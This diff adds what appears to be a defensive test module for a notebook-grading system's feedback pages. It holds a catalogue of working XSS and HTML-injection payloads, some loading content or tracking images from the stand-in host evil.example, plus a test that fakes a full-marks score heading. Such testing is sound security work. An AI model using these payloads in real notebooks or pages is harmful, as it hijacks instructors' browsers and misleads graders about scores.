@@ -1,0 +1,241 @@
+"""What is shown to somebody else: an instructor's browser, a page of feedback."""
+
+from __future__ import annotations
+
+from nbformat import from_dict
+
+from tests.attacks.catalogue import Family
+from tests.attacks.work import Work
+
+family = Family("feedback")
+attack = family.attack
+
+EVIL = [
+    "<script>alert('hood')</script>",
+    "<img src=x onerror=alert('hood')>",
+    "<svg onload=alert('hood')><animate onbegin=alert(1) attributeName=x></svg>",
+    "<iframe src='javascript:alert(1)'></iframe><object data='data:text/html,hood'></object>",
+    "<a href='javascript:alert(1)'>a</a><a href='JaVa\tScRiPt:alert(1)'>b</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>c</a><a href='vbscript:x'>d</a>",
+    "<form action='https://evil.example'><input name=q><button formaction=javascript:1>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='//evil.example/'>",
+    "<link rel=stylesheet href='//evil.example/x.css'><style>@import '//evil.example';</style>",
+    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>cover</div>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<video src=//evil.example poster=//evil.example><source src=x onerror=alert(1)></video>",
+    "<b/onmouseover=alert(1)>x</b><details ontoggle=alert(1) open>y</details>",
+    "<img src='https://evil.example/seen.png'><img srcset='//evil.example/x 1x'>",
+    "<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=1></xmp>",
+]
+
+
+@attack()
+def displays_html_that_runs(work: Work) -> None:
+    """Displays HTML with every way to run a script, to load from elsewhere, to cover the page."""
+    work.first(f"from IPython.display import HTML\nfor evil in {EVIL!r}:\n    display(HTML(evil))")
+
+
+@attack()
+def writes_html_that_runs(work: Work) -> None:
+    """Writes the same into text cells, where markdown lets HTML through."""
+    for evil in EVIL:
+        work.text(evil)
+
+
+@attack()
+def displays_markdown_that_runs(work: Work) -> None:
+    """Displays markdown with HTML, links that run, pictures that call home, and odd quoting."""
+    work.first(
+        f"""
+        from IPython.display import Markdown
+        for evil in {EVIL!r}:
+            display(Markdown(evil))
+        """
+    )
+    for evil in (
+        "[x](javascript:alert(1)) [y](data:text/html,hood) [z]( java\nscript:alert(1))",
+        "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)> <data:text/html,x>",
+        "[x](vbscript:a) [x](&#106;avascript:alert(1)) [x](java&#x73;cript:alert(1))",
+        "`<b title='` <img src=x onerror=alert(1)>`'>",
+        "```\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>",
+        "\\<script>alert(1)\\</script> &lt;script&gt;alert(1)&lt;/script&gt;",
+        '![x" onerror="alert(1)](x) ![a](x "t\\" onerror=alert(1)")',
+    ):
+        work.text(evil)
+
+
+@attack()
+def shows_a_picture_from_elsewhere(work: Work) -> None:
+    """Shows a picture of another machine, which learns who opens the page, and when."""
+    work.text("![seen](https://evil.example/seen.png)\n\n![s][1]\n\n[1]: //evil.example/s.png")
+    work.first(
+        """
+        from IPython.display import Markdown
+        display(Markdown("![seen](https://evil.example/seen.png)"))
+        """
+    )
+
+
+@attack()
+def displays_other_kinds(work: Work) -> None:
+    """Displays JavaScript, SVG, PDF, widgets, Vega, GeoJSON and types that nobody knows."""
+    work.first(
+        """
+        evil = "<script>alert('hood')</script>"
+        for kind in ("application/javascript", "text/javascript", "image/svg+xml", "text/html",
+                     "application/pdf", "application/vnd.jupyter.widget-view+json",
+                     "application/vnd.vega.v5+json", "application/geo+json", "text/vnd.mermaid",
+                     "application/x-evil", "application/json", "text/x-html", "TEXT/HTML"):
+            data = {"a": evil, "model_id": evil} if "json" in kind else evil
+            display({kind: data, "text/plain": evil}, raw=True)
+        """
+    )
+
+
+@attack()
+def breaks_out_of_a_picture(work: Work) -> None:
+    """Displays pictures whose data, width, height and names end the tag that they stand in."""
+    work.first(
+        """
+        out = "x' onerror=alert(1) \\" onerror=alert(1) ><script>alert(1)</script>"
+        for kind in ("image/png", "image/jpeg", "image/gif"):
+            about = {"width": "1 onload=alert(1)", "height": "1\\nonload=alert(1)",
+                     "unconfined": out, "needs_background": out}
+            display({kind: "iVBORw0KGgo=", "text/plain": "x"}, raw=True,
+                    metadata={kind: about, **about, "filenames": {kind: "//evil.example/x.png"}})
+            display({kind: out}, raw=True)
+        display({"image/svg+xml": "<svg/>"}, raw=True,
+                metadata={"filenames": {"image/svg+xml": "//evil.example/x.svg"}})
+        """
+    )
+
+
+@attack()
+def attaches_more_than_pictures(work: Work) -> None:
+    """Attaches pictures to a text cell whose names and data are markup."""
+    out = '"><script>alert(1)</script>'
+    work.text(f"![a](attachment:a.png) ![b](attachment:{out}) <img src='attachment:a.png'>")
+    work.nb.cells[-1].attachments = from_dict(
+        {
+            "a.png": {"image/png": out, "text/html": out, "image/svg+xml": out},
+            out: {"image/png": "x"},
+        }
+    )
+
+
+@attack()
+def floods_with_colours(work: Work) -> None:
+    """Prints and displays hundreds of thousands of colour codes, slow to turn into HTML."""
+    work.first(
+        """
+        flood = "\\x1b[31mx\\x1b[1m" * 20_000
+        print(flood)
+        display({"text/plain": flood}, raw=True)
+        raise RuntimeError(flood)
+        """
+    )
+
+
+@attack()
+def hides_markup_in_colours(work: Work) -> None:
+    """Splits tags with colour codes, backspaces and carriage returns, so that nobody sees them."""
+    work.first(
+        """
+        print("<scr\\x1b[0mipt>alert(1)</scr\\x1b[0mipt>")
+        print("\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07")
+        print("<b\\b\\b\\r<img src=x onerror=alert(1)>\\x1b[38;2;1;1;'onload=alert(1)'m")
+        """
+    )
+
+
+@attack(tells="alert")
+def raises_markup(work: Work) -> None:
+    """Raises exceptions whose names and texts are markup, in its own cells and when judged."""
+    code = """
+        class Evil(Exception): pass
+        Evil.__name__ = Evil.__qualname__ = "<img src=x onerror=alert(1)>"
+        """
+    work.first(code + "\n        raise Evil('<script>alert(1)</script>')")
+    work.answer(
+        "row_sums", code + "\n        def row_sums(x): raise Evil('<script>alert()</script>')"
+    )
+
+
+@attack()
+def saves_widgets(work: Work) -> None:
+    """Hands in the saved state of widgets, which a page brings to life."""
+    evil = {
+        "model_name": "HTMLModel",
+        "model_module": "//evil.example/x",
+        "state": {"value": "</script><script>alert(1)</script>"},
+    }
+    state = {"version_major": 2, "version_minor": 0, "state": {"a" * 32: evil}}
+    work.nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": state}
+    work.first(
+        """
+        import ipywidgets
+        display(ipywidgets.HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"))
+        """
+    )
+
+
+@attack()
+def writes_formulas_that_run(work: Work) -> None:
+    """Writes TeX with links that run, macros that never end, boxes larger than the page."""
+    formulas = (
+        r"$\href{javascript:alert(1)}{x}$ $$\unicode{<script>}$$ $<script>alert(1)</script>$",
+        r"$$\def\x{\x\x}\x$$ $\rule{100000em}{100000em}$ $\require{action}\toggle{a}{b}\endtoggle$",
+        r"$\style{position:fixed}{x}$ $\cssId{top}{x}$ $\class{score}{Score: 3.0 / 3.0}$",
+        r"\begin{equation}<img src=x onerror=alert(1)>\end{equation} \(<svg onload=alert(1)>\)",
+    )
+    for formula in formulas:
+        work.text(formula)
+    work.first(
+        f"""
+        from IPython.display import Latex, Math
+        for formula in {formulas!r}:
+            display(Latex(formula), Math(formula))
+        display({{"text/latex": "</div><script>alert(1)</script>"}}, raw=True)
+        """
+    )
+
+
+@attack()
+def writes_raw_cells(work: Work) -> None:
+    """Hands in raw cells, which some pages copy as they are."""
+    for kind in ("text/html", "", "text/markdown", "TEXT/HTML"):
+        work.text("<script>alert(1)</script><img src=x onerror=alert(1)>")
+        work.nb.cells[-1].cell_type = "raw"
+        work.nb.cells[-1].metadata["raw_mimetype"] = kind
+
+
+@attack()
+def writes_markup_into_names(work: Work) -> None:
+    """Puts markup into cell ids, tags, titles, languages and the notebook's own metadata."""
+    out = '"><script>alert(1)</script>'
+    work.nb.metadata.update(
+        {
+            "title": out,
+            "authors": [{"name": out}],
+            "language_info": {"name": out, "pygments_lexer": out, "codemirror_mode": out},
+        }
+    )
+    for cell in work.nb.cells:
+        cell.metadata["tags"] = [out]
+        cell.metadata["magics_language"] = out
+        cell.metadata["highlighter"] = out
+    work.text("x")
+    work.nb.cells[-1].metadata["nbgrader"] = {"grade_id": out, "grade": True, "points": out}
+
+
+@attack()
+def imitates_the_score(work: Work) -> None:
+    """Displays what looks like nbgrader's own heading with full points."""
+    work.first(
+        """
+        from IPython.display import HTML
+        display(HTML('<div id="toc" class="panel panel-primary nbgrader_cell"><span class='
+                     '"pull-right score" style="position:fixed;top:0">Score: 3.0 / 3.0</span>'))
+        """
+    )
